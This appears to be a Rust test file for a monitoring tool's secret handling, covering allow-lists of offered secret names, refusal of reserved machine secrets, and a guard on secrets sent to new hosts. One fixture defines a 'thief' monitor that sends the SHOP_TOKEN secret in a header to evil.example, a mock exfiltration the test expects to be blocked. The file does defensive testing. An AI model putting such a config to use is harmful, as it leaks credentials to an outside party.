//! What monitors may name of the machine's secrets, and where these may go: the program as it is typed.

#![expect(clippy::expect_used, reason = "a test says what it expects by unwrapping it")]

#[expect(dead_code, reason = "each test program uses its part of it")]
mod support;

use std::process::Output;

use serde_json::Value;
use support::{Api, Repository};

fn run(repository: &Repository, args: &[&str], variables: &[(&str, &str)]) -> (Option<i32>, String, String) {
    let mut command = repository.command(args);
    let Output { status, stdout, stderr } =
        command.envs(variables.iter().copied()).output().expect("it runs");
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("UTF-8");
    (status.code(), text(stdout), text(stderr))
}

fn with_header(api: &Api, id: &str, value: &str) -> String {
    format!("{}headers: {{ x-token: '{value}' }}\n", api.monitor(id, "/shop"))
}

// P10, trap 18: a repository cannot take what the machine did not offer.
#[test]
fn a_name_that_is_not_offered_is_a_fault_of_its_monitor_and_is_not_sent() {
    let api = Api::start();
    let repository =
        Repository::new(&[("monitors/shop.yaml", &with_header(&api, "shop", "${env:SHOP_TOKEN}"))]);
    run(&repository, &["sync", "--yes"], &[]);
    let check = |variables: &[(&str, &str)]| {
        let (_, stdout, _) = run(&repository, &["check", "--all", "--format", "json"], variables);
        let report: Value = serde_json::from_str(&stdout).expect("JSON");
        let monitor = &report["monitors"][0];
        (monitor["verdict"].clone(), monitor["faults"][0]["actual"].clone())
    };
    let token = ("SHOP_TOKEN", "hunter2-value");
    assert_eq!(check(&[token]), ("pass".into(), Value::Null));
    assert_eq!(check(&[token, ("MONITORCTL_SECRETS", "OTHER, SHOP_*")]), ("pass".into(), Value::Null));
    let refused = "${env:SHOP_TOKEN} is not offered by this machine: MONITORCTL_SECRETS does not list it";
    assert_eq!(check(&[token, ("MONITORCTL_SECRETS", "OTHER")]), ("fail".into(), refused.into()));
    let (code, _, stderr) = run(&repository, &["check"], &[("MONITORCTL_SECRETS", "a b")]);
    assert_eq!(code, Some(2), "{stderr}");
    // A file that was never validated, too: the machine's own are never filled in.
    repository.write("monitors/shop.yaml", &with_header(&api, "shop", "${env:AWS_SECRET_ACCESS_KEY}"));
    let (code, stdout, _) = run(&repository, &["validate", "--format", "short"], &[]);
    assert_eq!(code, Some(3));
    assert!(stdout.contains("error[reserved_secret]"), "{stdout}");
    let (code, ..) = run(&repository, &["sync", "--yes"], &[]);
    assert_eq!(code, Some(3));
}

// Trap 18
#[test]
fn a_review_sends_no_secret_unless_it_is_asked_to() {
    let api = Api::start();
    let repository =
        Repository::new(&[("monitors/shop.yaml", &with_header(&api, "shop", "${env:SHOP_TOKEN}"))]);
    let token = [("SHOP_TOKEN", "hunter2-value")];
    let (code, stdout, stderr) = run(&repository, &["diff", "--probe"], &token);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stdout.contains("not probed: needs ${env:SHOP_TOKEN}, filled in only with --secrets"),
        "{stdout}"
    );
    let (_, stdout, _) = run(&repository, &["diff", "--probe", "--format", "json"], &token);
    let plan: Value = serde_json::from_str(&stdout).expect("JSON");
    assert_eq!(plan["probed"][0]["needs_secrets"][0], "${env:SHOP_TOKEN}");
    let (_, stdout, _) = run(&repository, &["diff", "--probe", "--secrets"], &token);
    assert!(stdout.contains("none of 1 added and changed monitor would be DOWN now"), "{stdout}");
}

// Trap 18
#[test]
fn a_secret_that_would_go_to_a_new_host_is_refused_shown_and_written_down() {
    let api = Api::start();
    let repository =
        Repository::new(&[("monitors/shop.yaml", &with_header(&api, "shop", "${env:SHOP_TOKEN}"))]);
    // The first sync of an owner is not asked.
    assert_eq!(run(&repository, &["sync", "--yes"], &[]).0, Some(0));
    let thief = "id: thief\nurl: https://evil.example/\nheaders: { y: '${env:SHOP_TOKEN}' }\n";
    repository.write("monitors/thief.yaml", thief);
    let way = "${env:SHOP_TOKEN} goes to evil.example";
    for format in ["text", "markdown", "github"] {
        let (code, stdout, _) = run(&repository, &["diff", "--format", format], &[]);
        assert_eq!(code, Some(5), "{stdout}");
        assert!(stdout.contains("secret to a new host"), "{stdout}");
        // In Markdown the reference stands in pieces that nothing interprets.
        assert!(format == "markdown" || stdout.contains(way), "{stdout}");
    }
    let (_, stdout, _) = run(&repository, &["diff", "--format", "json"], &[]);
    let plan: Value = serde_json::from_str(&stdout).expect("JSON");
    assert_eq!(plan["summary"]["secret_hosts"], 1);
    assert_eq!(plan["changes"][0]["secret_hosts"][0]["host"], "evil.example");
    assert_eq!(plan["guard"]["violations"][0]["code"], "secret_hosts");
    let command = plan["guard"]["unblock"].as_str().expect("a command");
    assert!(command.contains("--allow-secret-host 1 --expect-plan sha256:"), "{command}");
    assert_eq!(run(&repository, &["sync", "--yes"], &[]).0, Some(5));
    let words: Vec<_> = command.split(' ').skip(1).chain(["--yes"]).collect();
    let (code, stdout, stderr) = run(&repository, &words, &[]);
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(stdout.contains("with --allow-secret-host 1"), "{stdout}");
    assert_eq!(run(&repository, &["diff", "--exit-code"], &[]).0, Some(0));
}
